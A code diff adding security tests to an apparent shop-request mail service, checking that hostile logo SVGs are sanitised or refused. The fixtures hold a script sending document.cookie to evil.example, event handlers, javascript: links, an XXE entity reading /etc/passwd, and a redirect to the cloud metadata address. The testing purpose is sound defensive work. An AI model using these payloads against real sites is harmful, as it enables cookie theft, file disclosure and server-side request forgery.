@@ -6,6 +6,17 @@ import { startTestWorker, type TestWorker } from './support/worker.js';
 
 const OPERATOR = 'team@shop.example';
 
+const HOSTILE_SVG = Buffer.from(
+  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="alert(1)">' +
+    '<script>fetch("https://evil.example/?c="+document.cookie)</script>' +
+    '<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/p.png"/></div></foreignObject>' +
+    '<image href="https://evil.example/track.png" width="1" height="1"/><use href="https://evil.example/s.svg#x"/>' +
+    '<a xlink:href="javascript:alert(2)"><circle r="4" cx="5" cy="5" style="fill:url(https://evil.example/f)"/></a><rect width="2" height="2"/></svg>',
+);
+const XXE_SVG = Buffer.from(
+  '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>',
+);
+
 let testRedis: TestRedis;
 let smtp: SmtpSink;
 let logos: LogoServer;
@@ -22,6 +33,8 @@ beforeAll(async () => {
   logos = await startLogoServer({
     '/wappen.png': sendBytes(PNG_1X1),
     '/wappen.svg': sendBytes(SVG_LOGO, 'image/svg+xml'),
+    '/hostile.svg': sendBytes(HOSTILE_SVG, 'image/svg+xml'),
+    '/xxe.svg': sendBytes(XXE_SVG, 'image/svg+xml'),
     '/huge.png': streamLargePng(5 * 1024 * 1024),
     '/page.png': sendBytes(Buffer.from('<!doctype html><html><body>Logo</body></html>'), 'image/png'),
     '/to-metadata.png': redirectTo('http://169.254.169.254/latest/meta-data/'),
@@ -65,6 +78,26 @@ describe('logos of a shop request', () => {
       ['logo-1-wappen.png', 'image/png'],
       ['logo-2-wappen.svg', 'image/svg+xml'],
     ]);
+  });
+
+  it('attaches a hostile SVG only without its script, handlers, foreignObject and external references', async () => {
+    const { operator } = await deliver(open, [logos.url('/hostile.svg')]);
+
+    const [svg] = imageAttachments(operator);
+    expect(svg?.contentType).toBe('image/svg+xml');
+    const text = svg!.content.toString('utf8');
+    expect(text).toContain('<rect width="2" height="2"/>');
+    expect(text).not.toMatch(/script|onload|foreignObject|evil\.example|javascript:|<img|<div/i);
+  });
+
+  it('refuses an SVG declaring an entity (XXE) and lists it as refused', async () => {
+    const url = logos.url('/xxe.svg');
+
+    const { operator, listNotes } = await deliver(open, [url]);
+
+    expect(imageAttachments(operator)).toEqual([]);
+    expect(operator.parsed.text).toContain('abgelehnt: SVG-Datei ließ sich nicht sicher bereinigen (declares entities)');
+    expect(listNotes).toContain(`${url}: abgelehnt: SVG-Datei`);
   });
 
   it('refuses a 5 MB logo and still delivers the request with a note', async () => {
